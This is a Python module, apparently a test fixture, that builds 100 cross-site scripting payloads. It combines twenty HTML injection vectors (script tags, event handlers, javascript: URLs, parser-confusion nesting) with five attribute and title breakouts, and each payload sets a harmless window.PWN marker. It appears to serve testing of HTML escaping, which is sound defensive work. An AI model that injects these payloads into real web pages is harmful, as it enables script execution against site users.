"""One hundred texts that would act in a page that does not escape them; each would set `window.PWN`."""

from __future__ import annotations

__all__ = ["ATTACKS"]

_RUN = "window.PWN=1"
_TAGS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<math><mtext></mtext><mglyph><style><img src onerror={_RUN}>",
    f"<style>@import 'javascript:{_RUN}'</style>",
    f"<base href='javascript:{_RUN}//'>",
    f"<meta http-equiv=refresh content='0;javascript:{_RUN}'>",
    f"<form action='javascript:{_RUN}'><button>x</button></form>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><script>{_RUN}</script>-->",
)
_BREAKS = ("{}", '"{}', "'{}", '">{}', "</title>{}")
ATTACKS = tuple(form.replace("{}", tag) for tag in _TAGS for form in _BREAKS)
"""Twenty elements, each by itself and breaking out of attributes and of the title."""
